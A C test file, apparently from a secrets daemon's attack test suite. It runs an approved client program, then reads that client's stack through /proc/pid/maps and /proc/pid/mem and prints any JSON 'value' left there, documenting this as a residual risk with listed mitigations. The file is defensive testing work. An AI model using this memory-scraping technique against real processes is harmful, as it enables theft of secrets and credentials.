/* SPDX-License-Identifier: MIT */
/*
 * attack: waits until an approved program has its value, and reads it out of that program's memory
 * expects: released
 * control: none
 * kind: residual
 * removed-by: a client that shuts its memory (kcget does); system mode; kernel.yama.ptrace_scope
 * cost: -
 *
 * The daemon has done its work by then: what it gave to the program that may have it is as safe
 * as that program keeps it.
 */
#define _GNU_SOURCE
#include "tests/attacks/support/attack.h"

#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void find_stack(pid_t pid, unsigned long *ret_start, unsigned long *ret_end) {
    char path[64];
    char line[1024];
    (void)snprintf(path, sizeof path, "/proc/%ld/maps", (long)pid);
    FILE *maps = fopen(path, "re");
    if (maps == NULL) {
        attack_skip("other processes' memory can't be read here");
    }
    while (fgets(line, sizeof line, maps) != NULL) {
        char *end = NULL;
        if (strstr(line, "[stack]") != NULL) {
            *ret_start = strtoul(line, &end, 16);
            *ret_end = strtoul(end + 1, NULL, 16);
        }
    }
    (void)fclose(maps);
}

/* Whatever looks like an answer on the program's stack. */
static void print_answers(pid_t pid) {
    char path[64];
    unsigned long start = 0;
    unsigned long end = 0;
    find_stack(pid, &start, &end);
    char *stack = malloc(end - start);
    (void)snprintf(path, sizeof path, "/proc/%ld/mem", (long)pid);
    int memory = open(path, O_RDONLY | O_CLOEXEC);
    if (stack == NULL || memory < 0) {
        attack_skip("other processes' memory can't be read here");
    }
    ssize_t got = pread(memory, stack, end - start, (off_t)start);
    const char *found =
        got > 0 ? memmem(stack, (size_t)got, "\"value\":\"", strlen("\"value\":\"")) : NULL;
    if (found != NULL) {
        (void)printf("%.128s\n", found);
    }
    free(stack);
    (void)close(memory);
}

int main(void) {
    char line[ATTACK_LINE_MAX];
    const char *const arguments[] = {attack_variable("ATTACK_VICTIM"), "connect", "use", "wait",
                                     NULL};
    struct attack_child victim = attack_start(arguments);
    attack_hear(&victim, line);
    (void)printf("%s\n", line); /* "reason: released", and no value */
    attack_hear(&victim, line);
    print_answers(victim.pid);
    attack_end(&victim);
    return 0;
}
